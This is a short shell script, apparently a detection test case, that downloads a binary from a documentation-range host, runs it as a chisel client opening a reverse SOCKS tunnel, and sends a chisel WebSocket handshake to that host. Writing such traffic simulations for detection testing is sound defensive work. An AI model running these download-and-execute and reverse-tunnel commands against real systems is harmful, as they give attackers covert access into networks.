#!/bin/sh
. /opt/case/case.sh

curl -s -o /tmp/chisel http://203.0.113.10/programs/beacon; chmod 755 /tmp/chisel
(timeout 2 /tmp/chisel client --fingerprint bait http://203.0.113.10:8080 R:socks) >/dev/null 2>&1 || true
curl -s -m 2 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Protocol: chisel-v3' -H 'Sec-WebSocket-Key: YmFpdA==' http://203.0.113.10:8080/ >/dev/null || true
took_place
